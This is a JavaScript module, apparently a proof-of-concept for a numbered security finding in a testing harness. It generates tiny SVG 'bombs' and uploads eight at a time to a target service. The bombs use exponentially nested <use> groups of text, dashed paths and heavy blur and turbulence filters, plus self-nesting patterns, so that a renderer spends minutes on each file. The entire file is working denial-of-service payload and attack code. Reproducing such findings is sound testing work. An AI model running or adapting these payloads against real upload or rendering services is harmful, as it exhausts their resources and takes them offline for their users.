/** Each has 1 to 3 KB and takes a renderer ten seconds to minutes. None declares its size. */
const BOMBS = {
  text: nested(16, `<text>${'a'.repeat(1_500)}</text>`),
  dashes: nested(15, `<path d="M0 0 ${'C 9 9 1 7 8 3 '.repeat(60)}" stroke="red" stroke-dasharray="0.01"/>`),
  filters: nested(
    15,
    '<rect width="40" height="40" filter="url(#f)"/>',
    '<filter id="f"><feGaussianBlur stdDeviation="90"/><feTurbulence numOctaves="9"/></filter>',
  ),
  patterns: patterns(12),
};
const AT_ONCE = 8;

export default {
  finding: 3,
  title:
    'uploads of SVG files of 1 to 3 KB that take minutes to render (nested use of text, dashes, filters; nested patterns), 8 at once',
  seconds: [8, 5],

  async attack(t) {
    const bombs = Object.entries(BOMBS);
    t.note(`sizes: ${bombs.map(([kind, svg]) => `${kind} ${svg.length} bytes`).join(', ')}`);
    await t.loop(AT_ONCE, (lane, turn) => {
      const [kind, svg] = bombs[(lane + turn) % bombs.length];
      return t.upload(Buffer.from(svg), `${kind}.svg`, { timeoutMs: 9_000 });
    });
  },
};

/** Each level shows the one below twice. */
function nested(levels, leaf, definitions = '') {
  let groups = `<g id="a0">${leaf}</g>`;
  for (let level = 1; level <= levels; level++) {
    groups += `<g id="a${level}"><use href="#a${level - 1}"/><use href="#a${level - 1}" x="1"/></g>`;
  }
  return `<svg xmlns="http://www.w3.org/2000/svg"><defs>${definitions}${groups}</defs><use href="#a${levels}"/></svg>`;
}

function patterns(levels) {
  let definitions = '<pattern id="p0" width="1" height="1"/>';
  for (let level = 1; level <= levels; level++) {
    const rect = `<rect width="9" height="9" fill="url(#p${level - 1})"/>`;
    definitions += `<pattern id="p${level}" width="3" height="3" patternUnits="userSpaceOnUse">${rect}${rect}</pattern>`;
  }
  return `<svg xmlns="http://www.w3.org/2000/svg">${definitions}<rect width="900" height="900" fill="url(#p${levels})"/></svg>`;
}
